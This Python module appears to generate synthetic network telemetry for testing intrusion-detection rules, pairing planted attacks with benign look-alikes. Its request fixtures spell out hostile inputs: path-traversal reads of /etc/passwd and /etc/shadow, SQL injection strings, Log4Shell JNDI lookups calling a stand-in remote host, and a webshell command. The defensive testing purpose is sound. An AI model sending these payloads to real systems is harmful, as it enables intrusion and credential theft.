"""What is hidden in the made day, and what must be left alone.

Every planted thing names the rule that is to find it; every twin looks like one and is not.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from playbooks.simulate import _campaigns
from playbooks.simulate import _city as city


@dataclass(frozen=True, slots=True)
class Request:
    """One HTTP request as a sensor sees it; ``minute`` of the day in Beijing."""

    minute: int
    source: str
    destination: str
    host: str
    path: str
    status: int
    method: str = "GET"
    agent: str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/142.0"
    forwarded: str = ""


@dataclass(frozen=True, slots=True)
class Session:
    """One flow; bytes and packets of the client, flags of both directions."""

    minute: int
    source: str
    destination: str
    port: int
    packets: int
    octets: int
    seconds: float
    flags: int = 0x1B  # SYN, FIN, PSH, ACK: the connection stood


@dataclass(frozen=True, slots=True)
class Alarm:
    """One alert of the intrusion sensor."""

    minute: int
    source: str
    destination: str
    signature: int
    title: str
    category: str
    priority: int  # Suricata's, 1 is the highest
    action: str


@dataclass(frozen=True, slots=True)
class Question:
    """One DNS question and its answer."""

    minute: int
    client: str
    name: str
    answer: str


Trace = Request | Session | Alarm | Question


@dataclass(frozen=True, slots=True)
class Planted:
    """A thing that must be found: its name, by which rule, and who must be named."""

    name: str  # stable key; the catalogue has its title
    rule: str  # id of the rule
    attacker: str
    victim: str
    traces: tuple[Trace, ...] = field(repr=False)


RULES = {  # file name below detections/rules -> id of the rule
    "cleartext_administration_from_outside": "94742466-2fd0-5a05-be19-ff660a772500",
    "desktop_or_share_from_outside": "66f98290-c547-5f4b-b23e-57f5ff102691",
    "high_priority_allowed": "63a69116-8d86-5553-bf16-a32c1ed2bd09",
    "log4shell_lookup": "6a1e0bc1-424a-5f8a-b6c5-730d53475751",
    "management_endpoint_exposed": "10b7a3b9-3612-55a7-bc4e-5ef5f1958957",
    "mining_pool": "70841184-b3da-571b-be2e-1257708601f0",
    "path_traversal": "983fcc33-5e97-5349-b631-7aa0c59356fb",
    "scanner_user_agent": "3db14878-850d-5b86-97b5-f46490e99b6c",
    "sql_injection": "b13d5ca0-e47e-5efb-8e5a-b232f10488cf",
    "ssh_session_from_outside": "81d75157-30f9-5dfe-bb51-b2aa4c66600d",
    "webshell_access": "20f953d4-bb06-597c-a195-b8fd5b1ea03a",
}
_SCHOOL, _PORTAL6, _RENT = "192.0.2.20", "2001:db8:200::11", "192.0.2.50"
_SITE, _HALL, _LEASE = "zs.lanting.example", "zw.lanting.example", "zl.lanting.example"
_SQLMAP = "sqlmap/1.9#stable (https://sqlmap.org)"


def _requests(
    start: int,
    source: str,
    target: str,
    host: str,
    paths: tuple[str, ...],
    status: int,
    **more: str,
) -> tuple[Request, ...]:
    return tuple(
        Request(start + n, source, target, host, path, status, **more)
        for n, path in enumerate(paths)
    )


PLANTED = (
    Planted(
        "path_traversal",
        RULES["path_traversal"],
        "198.51.100.23",
        _SCHOOL,
        _requests(
            545,
            "198.51.100.23",
            _SCHOOL,
            _SITE,
            (
                "/download?file=../../../../etc/passwd",
                "/download?file=..%2f..%2f..%2fetc%2fshadow",
                "/static/..;/..;/WEB-INF/web.xml",
            ),
            404,
        ),
    ),
    Planted(
        "sql_injection",
        RULES["sql_injection"],
        "198.51.100.45",
        _SCHOOL,
        _requests(
            600,
            "198.51.100.45",
            _SCHOOL,
            _SITE,
            (
                "/query?id=1%27%20or%201=1",
                "/query?id=-1%20union%20select%20user,password%20from%20admin",
                "/query?id=1%20and%20sleep(5)",
            ),
            500,
        ),
    ),
    Planted(
        "scanner_tool",
        RULES["scanner_user_agent"],
        "198.51.100.46",
        "192.0.2.40",
        _requests(
            620,
            "198.51.100.46",
            "192.0.2.40",
            "gh.lanting.example",
            tuple(f"/{name}.php" for name in ("admin", "test", "login", "config", "install")),
            404,
            agent=_SQLMAP,
        ),
    ),
    Planted(
        "log4shell_v6",
        RULES["log4shell_lookup"],
        "2001:db8:bad::7",
        _PORTAL6,
        _requests(
            680,
            "2001:db8:bad::7",
            _PORTAL6,
            _HALL,
            ("/login?next=${jndi:ldap://198.51.100.9/a}", "/api?x=$%7bjndi:rmi://198.51.100.9/b}"),
            200,
        ),
    ),
    Planted(
        "management_exposed",
        RULES["management_endpoint_exposed"],
        "198.51.100.60",
        _RENT,
        _requests(
            700,
            "198.51.100.60",
            _RENT,
            _LEASE,
            ("/nacos/v1/auth/users?pageNo=1&pageSize=9", "/actuator/env"),
            200,
        ),
    ),
    Planted(
        "webshell_through_cdn",
        RULES["webshell_access"],
        _campaigns.STORMER,
        _SCHOOL,
        _requests(
            852,  # when the storm is over
            city.CDN,  # the front; the client stands in X-Forwarded-For
            _SCHOOL,
            _SITE,
            ("/uploads/2026/03/a1.jsp?cmd=id",),
            200,
            method="POST",
            forwarded=_campaigns.STORMER,
        ),
    ),
    Planted(
        "intrusion_passed",
        RULES["high_priority_allowed"],
        "198.51.100.88",
        "192.0.2.30",
        tuple(
            Alarm(
                860 + n,
                "198.51.100.88",
                "192.0.2.30",
                9_000_101,
                "LANTING EXPLOIT deserialization of untrusted object",
                "Attempted Administrator Privilege Gain",
                1,
                "allowed",
            )
            for n in range(4)
        ),
    ),
    Planted(
        "mining_pool",
        RULES["mining_pool"],
        "198.51.100.200",
        "198.18.10.30",
        tuple(
            Question(30 * n, "198.18.10.30", "pool.supportxmr.com", "198.51.100.200")
            for n in range(1, 40)
        ),
    ),
    Planted(
        "remote_desktop",
        RULES["desktop_or_share_from_outside"],
        "198.51.100.90",
        "192.0.2.40",
        (Session(955, "198.51.100.90", "192.0.2.40", 3389, 640, 182_000, 1_260.0),),
    ),
    Planted(
        "cleartext_login",
        RULES["cleartext_administration_from_outside"],
        "198.51.100.91",
        "192.0.2.60",
        (Session(970, "198.51.100.91", "192.0.2.60", 23, 55, 4_900, 240.0),),
    ),
    Planted(
        "ssh_session_v6",
        RULES["ssh_session_from_outside"],
        "2001:db8:bad::92",
        "2001:db8:200::11",
        (Session(1_000, "2001:db8:bad::92", "2001:db8:200::11", 22, 900, 96_000, 1_800.0),),
    ),
)


BEHAVIOUR = (  # what the campaigns leave behind; ``_campaigns`` makes their flows
    Planted("sweep", "analytic.scan", _campaigns.SWEEPER, "192.0.2.1", ()),
    Planted("kiosk_sweep", "analytic.scan", _campaigns.KIOSK, "198.18.0.100", ()),
    Planted("kiosk_sweep_v6", "analytic.scan", _campaigns.KIOSK_V6, "2001:db8:100:8::1", ()),
    Planted("guessing", "analytic.guessing", _campaigns.KIOSK, _campaigns.GUESSED, ()),
    Planted("beacon", "analytic.beacon", _campaigns.CALLED, _campaigns.CALLER, ()),
    Planted("upload", "analytic.exfiltration", _campaigns.LEAKED_TO, _campaigns.LEAK, ()),
    Planted("silence", "analytic.silence", "", "pe1", ()),
)


@dataclass(frozen=True, slots=True)
class Twin:
    """A thing that looks like an attack and must raise no alert."""

    name: str
    source: str
    traces: tuple[Trace, ...] = field(repr=False)


TWINS = (
    Twin("city_scanner", _campaigns.CITY_SCANNER, ()),  # sanctioned, registered
    Twin("nightly_backup", _campaigns.BACKUP_TO, ()),
    Twin(  # the bureau's own scanner is registered as a source of kind scanner
        "own_scanner",
        city.SCANNER,
        _requests(
            630,
            city.SCANNER,
            _SCHOOL,
            _SITE,
            ("/admin.php", "/query?id=1%27%20or%201=1", "/../../etc/passwd"),
            404,
            agent=_SQLMAP,
        ),
    ),
    Twin(
        "search_for_select",
        "203.0.113.31",
        _requests(640, "203.0.113.31", _SCHOOL, _SITE, ("/search?q=how+to+select+a+school",), 200),
    ),
    Twin(
        "management_not_found",
        "203.0.113.32",
        _requests(650, "203.0.113.32", _RENT, _LEASE, ("/actuator/env",), 404),
    ),
    Twin(
        "intrusion_blocked",
        "198.51.100.89",
        (
            Alarm(
                870,
                "198.51.100.89",
                "192.0.2.30",
                9_000_101,
                "LANTING EXPLOIT deserialization of untrusted object",
                "Attempted Administrator Privilege Gain",
                1,
                "blocked",
            ),
        ),
    ),
    Twin(  # a refused connection: SYN answered by RST
        "desktop_refused",
        "203.0.113.33",
        (Session(960, "203.0.113.33", "192.0.2.40", 3389, 2, 120, 0.2, flags=0x16),),
    ),
)
